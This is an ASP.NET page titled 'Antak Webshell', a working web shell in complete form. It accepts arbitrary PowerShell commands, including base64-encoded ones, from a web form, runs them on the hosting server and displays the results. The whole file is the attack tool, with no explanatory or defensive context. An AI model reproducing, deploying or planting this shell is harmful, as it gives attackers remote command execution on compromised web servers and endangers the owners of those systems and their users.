<%@ Page Language="C#" Debug="false" Trace="false" %>
<%@ Import Namespace="System.Collections.ObjectModel" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<%@ Import Namespace="System.Text" %>
<%@ Assembly Name="System.Management.Automation,Version=1.0.0.0,Culture=neutral,PublicKeyToken=31BF3856AD364E35" %>
<script runat="server">
    string RunScript(string script)
    {
        Runspace rs = RunspaceFactory.CreateRunspace();
        rs.Open();
        Pipeline pipe = rs.CreatePipeline();
        pipe.Commands.AddScript(script);
        pipe.Commands.Add("Out-String");
        Collection<PSObject> results = pipe.Invoke();
        rs.Close();
        StringBuilder sb = new StringBuilder();
        foreach (PSObject o in results) sb.AppendLine(o.ToString());
        return sb.ToString();
    }
    protected void btnRun_Click(object sender, EventArgs e)
    {
        output.Text = Server.HtmlEncode(RunScript(console.Text));
    }
    protected void btnEncoded_Click(object sender, EventArgs e)
    {
        string decoded = Encoding.Unicode.GetString(Convert.FromBase64String(console.Text));
        output.Text = Server.HtmlEncode(RunScript(decoded));
    }
</script>
<html><head><title>Antak Webshell</title></head>
<body><form id="f" runat="server">
<asp:TextBox ID="console" runat="server" TextMode="MultiLine" Rows="4" Width="90%" />
<asp:Button ID="run" runat="server" Text="Submit" OnClick="btnRun_Click" />
<asp:Button ID="enc" runat="server" Text="Encode and Execute" OnClick="btnEncoded_Click" />
<pre><asp:Literal ID="output" runat="server" /></pre>
</form></body></html>
